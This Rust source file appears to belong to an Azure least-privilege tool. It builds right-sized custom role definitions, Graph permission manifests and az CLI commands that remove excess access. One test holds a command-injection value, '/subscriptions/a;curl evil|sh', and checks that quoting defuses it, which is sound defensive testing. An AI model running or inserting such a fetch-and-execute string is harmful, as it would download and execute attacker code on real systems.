//! Right-sized access as role definitions and application permissions.
//!
//! What Azure's roles grant becomes one custom role for each scope. Directory roles and permissions are held whole or not
//! at all: one that grants more than may stay goes, and what it granted of that is left out.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use evenhand_model::access::{AccessResolver as _, Edge, EdgeTarget, GrantIx};
use evenhand_model::catalog::Catalog as _;
use evenhand_model::glob::Glob;
use evenhand_model::id::IdentityId;
use evenhand_model::opset::{OpSet, OperationIx};
use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes, file_name, quoted};
use evenhand_model::scope::{Pattern, ResourceScope};
use serde_json::{Value, json};

use super::bond::{Bond, By, left, no_longer_ready, without_scopes};
use super::edges::AGENT_OF_BLUEPRINT;
use super::{Origin, Resolver};
use crate::catalog::graph::{self, MICROSOFT_GRAPH};
use crate::cloud::Cloud;
use crate::rbac::{ObjectId, Plane};

/// What a grant is called that stands on a blueprint, and not on the agent.
const INHERITED: &str = "inherited ";
/// What the permissions of an application are called, by the kind of access that a manifest asks for.
const PERMISSIONS: [(&str, &str); 2] = [("application permission ", "Role"), ("delegated permission ", "Scope")];
/// How permissions of Microsoft Graph end.
const OF_GRAPH: &str = " of Microsoft Graph";

impl Proposes for Resolver {
    fn is_replaced(&self, identity: &IdentityId, grant: GrantIx) -> bool {
        self.compiled(identity).is_some() && !self.grant(grant).policy.starts_with(INHERITED)
    }

    fn lent_by(&self, identity: &IdentityId, grant: GrantIx) -> Option<IdentityId> {
        if !self.grant(grant).policy.starts_with(INHERITED) {
            return None;
        }
        let made = |edge: &&Edge| {
            *edge.technique == *AGENT_OF_BLUEPRINT
                && matches!(&edge.target, EdgeTarget::Identity(target) if target == identity)
        };
        self.edges.iter().find(made).map(|edge| edge.source.clone())
    }

    fn lends_to(&self, identity: &IdentityId) -> Vec<IdentityId> {
        let made = self.edges.iter().filter(|edge| edge.source == *identity && *edge.technique == *AGENT_OF_BLUEPRINT);
        made.filter_map(|edge| if let EdgeTarget::Identity(agent) = &edge.target { Some(agent.clone()) } else { None })
            .collect()
    }

    fn propose(&self, identity: &IdentityId, kept: &[Kept], apart: &str) -> Result<Proposal, NoProposal> {
        let Some(compiled) = self.compiled(identity) else {
            return Err(NoProposal {
                reason: format!("nothing about the roles of `{identity}` was read"),
                remedy: "add the role assignments of its subscriptions and the directory's answers about it".to_owned(),
            });
        };
        let mut left_out = Vec::new();
        let mut roles: BTreeMap<Vec<Arc<str>>, OpSet> = BTreeMap::new();
        let mut whole: BTreeMap<GrantIx, OpSet> = BTreeMap::new();
        for (place, part) in kept.iter().enumerate() {
            let directory: OpSet =
                part.slice.operations.iter().filter(|at| self.catalogue().plane(*at) == Plane::Directory).collect();
            let resources = part.slice.operations.difference(&directory);
            if !directory.is_empty() && part.slice.condition == part.of.condition && part.slice.scope == part.of.scope {
                let held = whole.entry(part.of.grant).or_default();
                *held = held.union(&directory);
            }
            if resources.is_empty() {
                continue;
            }
            let scopes = match part.slice.condition.is_unconditional() {
                true => scopes(&part.slice.scope).ok_or("no role is assigned to just these resources"),
                false => Err("a role definition has no condition, and an assignment takes one of its own"),
            };
            match scopes {
                // Source: "Azure custom roles", AssignableScopes: the root is for the vendor's own roles.
                Ok(scopes) if scopes.iter().any(|scope| **scope == *"/") => {
                    let why = "a custom role cannot be assigned at the root, above all management groups".into();
                    left_out.push(LeftOut { place, operations: resources, why });
                }
                Ok(scopes) => {
                    let data = self.unassignable(&scopes, &resources);
                    let rest = resources.difference(&data);
                    for scopes in assignable(scopes).into_iter().filter(|_| !rest.is_empty()) {
                        let held = roles.entry(scopes).or_default();
                        *held = held.union(&rest);
                    }
                    if !data.is_empty() {
                        let why =
                            "a custom role with operations on data cannot be assigned at a management group".into();
                        left_out.push(LeftOut { place, operations: data, why });
                    }
                }
                Err(why) => left_out.push(LeftOut { place, operations: resources, why: why.into() }),
            }
        }
        // A grant of the directory stays where all that it grants may stay.
        let granted = |grant: GrantIx| {
            let of = compiled.access.slices().iter().filter(move |slice| slice.grant == grant);
            of.fold(OpSet::new(), |all, slice| all.union(&slice.operations))
        };
        let stays: BTreeSet<GrantIx> =
            whole.iter().filter(|(grant, held)| granted(**grant).is_subset(held)).map(|(grant, _)| *grant).collect();
        for (place, part) in kept.iter().enumerate().filter(|(_, part)| !stays.contains(&part.of.grant)) {
            let directory = |at: &OperationIx| self.catalogue().plane(*at) == Plane::Directory;
            let operations: OpSet = part.slice.operations.iter().filter(directory).collect();
            if !operations.is_empty() {
                let why = "the role or permission that grants it grants more, and is held whole or not at all".into();
                left_out.push(LeftOut { place, operations, why });
            }
        }
        left_out.sort_by_key(|left| left.place);
        Ok(self.told(identity, &roles, &stays, left_out, apart))
    }
}

impl Resolver {
    fn told(
        &self,
        identity: &IdentityId,
        roles: &BTreeMap<Vec<Arc<str>>, OpSet>,
        stays: &BTreeSet<GrantIx>,
        left_out: Vec<LeftOut>,
        apart: &str,
    ) -> Proposal {
        let short = file_name(identity.as_str().rsplit(':').next().unwrap_or_default());
        let (mut files, mut steps) = (Vec::new(), Vec::new());
        for (number, (scopes, operations)) in (1..).zip(roles) {
            let file = format!("{short}{apart}.role-{number}.json");
            let title = format!("evenhand right-sized {short}{apart} {number}");
            let document = self.definition(&title, scopes, operations);
            steps.push(format!("az role definition create --role-definition @{}", quoted(&file)));
            steps.extend(scopes.iter().map(|scope| assigned(&short, &title, scope)));
            files.push(ProposedFile { name: file, text: format!("{document:#}\n") });
        }
        let access = self.access(identity);
        let mut grants: Vec<GrantIx> =
            access.iter().flat_map(|access| access.slices()).map(|slice| slice.grant).collect();
        grants.sort_unstable();
        grants.dedup();
        let mut kept = Vec::new();
        let mut undo = Undo::of(self, identity);
        for grant in grants {
            let grant_of = self.grant(grant);
            match requested(&grant_of.policy) {
                Some(entry) if stays.contains(&grant) => kept.push(entry),
                _ if stays.contains(&grant) || grant_of.policy.starts_with(INHERITED) => {}
                _ => undo.take(grant),
            }
        }
        let notes = undo.notes();
        let gone = undo.steps(stays);
        if !kept.is_empty() {
            kept.sort_by_key(ToString::to_string);
            let document = json!({"requiredResourceAccess": [
                {"resourceAppId": MICROSOFT_GRAPH, "resourceAccess": kept},
            ]});
            files.push(ProposedFile {
                name: format!("{short}{apart}.permissions.json"),
                text: format!("{document:#}\n"),
            });
        }
        steps.extend(gone);
        Proposal { files, steps, left_out, notes, ..Proposal::default() }
    }

    /// The operations that no custom role grants in some scopes. Source: "Azure custom roles", custom role limits.
    fn unassignable(&self, scopes: &[Arc<str>], operations: &OpSet) -> OpSet {
        match scopes.iter().any(|scope| is_management_group(scope)) {
            true => operations.iter().filter(|at| self.catalogue().plane(*at) == Plane::Data).collect(),
            false => OpSet::new(),
        }
    }

    fn bond(&self, grant: GrantIx) -> Option<&Bond> {
        self.bonds.get(grant.0 as usize)
    }

    fn origin(&self, grant: GrantIx) -> Option<&Origin> {
        let after = self.origins.partition_point(|origin| origin.first <= grant.0);
        self.origins.get(after.checked_sub(1)?)
    }

    /// A role definition as `az role definition create` takes it.
    fn definition(&self, title: &str, scopes: &[Arc<str>], operations: &OpSet) -> Value {
        let named = |plane: Plane| -> Vec<String> {
            // One by one: a wildcard would grant what the catalogue does not know, and what the vendor adds.
            let of_plane = operations.iter().filter(|at| self.catalogue().plane(*at) == plane);
            of_plane.map(|at| self.catalogue().name(at).trim_end_matches(" (data)").to_owned()).collect()
        };
        json!({
            "Name": title,
            "IsCustom": true,
            "Description": "What may stay of an identity's roles",
            "Actions": named(Plane::Control),
            "NotActions": [],
            "DataActions": named(Plane::Data),
            "NotDataActions": [],
            "AssignableScopes": scopes,
        })
    }
}

/// How a principal comes to what is granted.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Way {
    Itself,
    /// By being in a group, which gives it to whoever is in it.
    Member(ObjectId),
    /// By activating the membership of a group.
    Ready(ObjectId),
}

/// One delegated grant of a client: its id or, where that was not read, the resource alone.
type Delegation = (Option<Arc<str>>, Arc<str>);

/// What is to be taken away of a principal, as commands: each once, and what is held through a group by leaving it.
struct Undo<'r> {
    resolver: &'r Resolver,
    object: ObjectId,
    ready: &'r [ObjectId],
    steps: Vec<String>,
    ways: BTreeSet<Way>,
    /// The tenant of what goes.
    origin: Option<&'r Origin>,
    /// All scopes of delegated grants, and those that go.
    scopes: BTreeMap<Delegation, (Arc<str>, BTreeSet<Arc<str>>)>,
}

impl<'r> Undo<'r> {
    fn of(resolver: &'r Resolver, identity: &IdentityId) -> Self {
        let object = ObjectId::new(identity.as_str().rsplit(':').next().unwrap_or_default());
        let ready = resolver.ready.get(identity).map_or(&[][..], Vec::as_slice);
        let (steps, ways, scopes) = (Vec::new(), BTreeSet::new(), BTreeMap::new());
        Self { resolver, object, ready, steps, ways, origin: None, scopes }
    }

    fn cloud(&self) -> Cloud {
        self.origin.map(|origin| origin.cloud).unwrap_or_default()
    }

    fn ways(&self, grant: GrantIx) -> Vec<Way> {
        let (Some(bond), Some(Origin { groups, .. })) = (self.resolver.bond(grant), self.resolver.origin(grant)) else {
            return Vec::new();
        };
        if bond.principal == self.object {
            return vec![Way::Itself];
        }
        let leads = |group: &&ObjectId| groups.of(group).contains(&bond.principal);
        let member = groups.direct(&self.object).filter(leads).map(|group| Way::Member(group.clone()));
        let ready = self.ready.iter().filter(leads).map(|group| Way::Ready(group.clone()));
        member.chain(ready).collect()
    }

    /// Notes that a grant goes.
    fn take(&mut self, grant: GrantIx) {
        let resolver = self.resolver;
        self.origin = resolver.origin(grant);
        let ways = self.ways(grant);
        if ways != [Way::Itself] {
            self.ways.extend(ways.iter().cloned());
            if !ways.is_empty() {
                return;
            }
        }
        let bond = resolver.bond(grant).filter(|_| !ways.is_empty());
        match bond {
            Some(Bond { by: By::Delegated { id, resource, value, all }, .. }) => {
                let delegation = (id.clone(), Arc::clone(resource));
                let (_, gone) = self.scopes.entry(delegation).or_insert_with(|| (Arc::clone(all), BTreeSet::new()));
                gone.insert(Arc::clone(value));
            }
            bond => {
                let commands = bond.map(|bond| bond.undone(self.cloud())).unwrap_or_default();
                if commands.is_empty() {
                    let of = resolver.grant(grant);
                    self.steps.push(format!("take away: {} ({})", of.policy, of.evidence));
                }
                for command in commands {
                    if !self.steps.contains(&command) {
                        self.steps.push(command);
                    }
                }
            }
        }
    }

    /// What deny assignments deny to it no longer, and newly, once it has left groups, for people.
    fn notes(&self) -> Vec<String> {
        let Some(Origin { groups, denies, .. }) = self.origin else { return Vec::new() };
        let stay = groups.direct(&self.object).filter(|group| !self.ways.contains(&Way::Member((*group).clone())));
        let itself = std::iter::once(self.object.clone());
        let then: BTreeSet<ObjectId> = stay.flat_map(|group| groups.of(group)).chain(itself).collect();
        let denied = |who: &BTreeSet<ObjectId>| -> BTreeMap<usize, Arc<str>> {
            denies.of(who).into_iter().map(|(at, deny)| (at, Arc::clone(&deny.name))).collect()
        };
        let (before, after) = (denied(&groups.of(&self.object)), denied(&then));
        // Several may have one name.
        let names = |of: &BTreeMap<usize, Arc<str>>, but: &BTreeMap<usize, Arc<str>>| -> BTreeSet<Arc<str>> {
            of.iter().filter(|(at, _)| !but.contains_key(*at)).map(|(_, name)| Arc::clone(name)).collect()
        };
        let lost = names(&before, &after).into_iter().map(|name| {
            format!(
                "the deny assignment `{name}` names a group that a step leaves, and denies nothing to it then: see that it \
                 names the principal itself before"
            )
        });
        let gained = names(&after, &before).into_iter().map(|name| {
            format!(
                "the deny assignment `{name}` excludes a group that a step leaves, and denies to it then: see that it \
                 excludes the principal itself before, where the work needs what it denies"
            )
        });
        lost.chain(gained).collect()
    }

    /// The commands. What stays and came through a group that is left is given to the principal itself, before that.
    fn steps(mut self, stays: &BTreeSet<GrantIx>) -> Vec<String> {
        let cloud = self.cloud();
        let mut first = Vec::new();
        for grant in stays {
            let ways = self.ways(*grant);
            let is_lost = !ways.is_empty() && ways.iter().all(|way| self.ways.contains(way));
            let again = self.resolver.bond(*grant).filter(|_| is_lost).and_then(|bond| bond.again(cloud, &self.object));
            first.extend(again);
        }
        for ((id, resource), (all, gone)) in &self.scopes {
            let stay: Vec<&str> = all.split_ascii_whitespace().filter(|scope| !gone.contains(*scope)).collect();
            self.steps.push(without_scopes(cloud, &self.object, id.as_deref(), resource, &stay));
        }
        for way in &self.ways {
            match way {
                Way::Itself => {}
                Way::Member(group) => self.steps.push(left(group, &self.object)),
                Way::Ready(group) => self.steps.push(no_longer_ready(cloud, group, &self.object)),
            }
        }
        first.append(&mut self.steps);
        first
    }
}

/// How a role is assigned. The scope is a resource's name as somebody wrote it.
fn assigned(assignee: &str, title: &str, scope: &str) -> String {
    let (assignee, title, scope) = (quoted(assignee), quoted(title), quoted(scope));
    format!("az role assignment create --assignee-object-id {assignee} --role {title} --scope {scope}")
}

/// A permission of Microsoft Graph as an application's manifest asks for it.
fn requested(policy: &str) -> Option<Value> {
    let (how, kind) = PERMISSIONS.iter().find(|(how, _)| policy.starts_with(how))?;
    let name = policy.strip_prefix(how)?.strip_suffix(OF_GRAPH)?;
    let known = graph::of_name(name)?;
    let id = if *kind == "Role" { known.application.as_ref() } else { known.delegated.as_ref() }?;
    Some(json!({"id": id, "type": kind}))
}

/// The scopes whose assignments reach just these resources: each is a resource with what lies below it.
fn scopes(scope: &ResourceScope) -> Option<Vec<Arc<str>>> {
    let list = match (scope.all_of.as_slice(), scope.none_of.as_slice()) {
        ([], []) => return Some(vec![Arc::from("/")]),
        ([list], []) => list,
        _ => return None,
    };
    let glob = |pattern: &Pattern| match pattern.segments() {
        [glob] => Some(glob.clone()),
        _ => None,
    };
    let globs: Vec<Glob> = list.iter().map(glob).collect::<Option<_>>()?;
    let (mut places, mut below) = (BTreeSet::new(), BTreeSet::new());
    for glob in globs {
        match glob {
            Glob::Literal(id) => places.insert(id),
            Glob::Prefix(id) => below.insert(Arc::from(id.strip_suffix('/')?)),
            Glob::Any | Glob::Tokens(_) => return None,
        };
    }
    (places == below).then(|| places.into_iter().collect())
}

fn is_management_group(scope: &str) -> bool {
    scope.to_ascii_lowercase().starts_with("/providers/microsoft.management/managementgroups/")
}

/// Scopes as lists that one custom role each may be assigned at: a role names one management group at most. Source: "Azure
/// custom roles", custom role limits.
fn assignable(scopes: Vec<Arc<str>>) -> Vec<Vec<Arc<str>>> {
    let (groups, rest): (Vec<_>, Vec<_>) = scopes.iter().cloned().partition(|scope| is_management_group(scope));
    if groups.len() <= 1 {
        return vec![scopes];
    }
    let rest = Some(rest).filter(|rest| !rest.is_empty());
    groups.into_iter().map(|group| vec![group]).chain(rest).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_role_names_one_management_group_and_grants_no_data_there() {
        let group =
            |name: &str| -> Arc<str> { format!("/providers/Microsoft.Management/managementGroups/{name}").into() };
        let subscription: Arc<str> = "/subscriptions/s".into();
        for (scopes, lists) in [
            (vec![group("a"), subscription.clone()], vec![vec![group("a"), subscription.clone()]]),
            (vec![group("a"), group("b")], vec![vec![group("a")], vec![group("b")]]),
            (
                vec![group("a"), group("b"), subscription.clone()],
                vec![vec![group("a")], vec![group("b")], vec![subscription.clone()]],
            ),
        ] {
            assert_eq!(assignable(scopes), lists);
        }
        let resolver = Resolver::of(&[]);
        let named = |pattern: &str| resolver.catalogue().expand(pattern);
        let both = named("Microsoft.Storage/storageAccounts/read")
            .union(&named("Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read"));
        let data: OpSet = both.iter().filter(|at| resolver.catalogue().plane(*at) == Plane::Data).collect();
        assert!(!data.is_empty() && data.len() < both.len());
        assert_eq!(resolver.unassignable(&[group("a"), subscription.clone()], &both), data);
        assert_eq!(resolver.unassignable(&[subscription], &both), OpSet::new());
    }

    #[test]
    fn a_scope_is_a_resource_with_what_lies_below_it() {
        let of = |globs: &[Glob]| {
            let patterns = globs.iter().map(|glob| Pattern::new([glob.clone()], '/'));
            scopes(&ResourceScope::any_of(patterns)).map(|scopes| scopes.join(" "))
        };
        let (at, below) = (Glob::literal("/subscriptions/a"), Glob::Prefix("/subscriptions/a/".into()));
        assert_eq!(of(&[at.clone(), below.clone()]).as_deref(), Some("/subscriptions/a"));
        assert_eq!(of(&[at]), None, "alone");
        assert_eq!(of(&[below]), None, "without the resource itself");
        assert_eq!(scopes(&ResourceScope::everything()).map(|scopes| scopes.join(" ")).as_deref(), Some("/"));
    }

    #[test]
    fn no_name_of_a_scope_ends_the_command_that_assigns_a_role() {
        assert_eq!(
            assigned("1", "evenhand right-sized 1 1", "/subscriptions/a"),
            "az role assignment create --assignee-object-id 1 --role 'evenhand right-sized 1 1' --scope /subscriptions/a"
        );
        let hostile = assigned("1", "t", "/subscriptions/a;curl evil|sh");
        assert!(hostile.ends_with(" --scope '/subscriptions/a;curl evil|sh'"), "{hostile}");
    }

    #[test]
    fn permissions_of_graph_are_asked_for_by_id() {
        let asked = requested("application permission User.Read.All of Microsoft Graph").unwrap();
        assert_eq!(asked, json!({"id": "df021288-bdef-4463-88db-98f22de89214", "type": "Role"}));
        assert_eq!(requested("application permission Do.It of Payroll"), None);
        assert_eq!(requested("role Reader at /subscriptions/a"), None);
    }
}
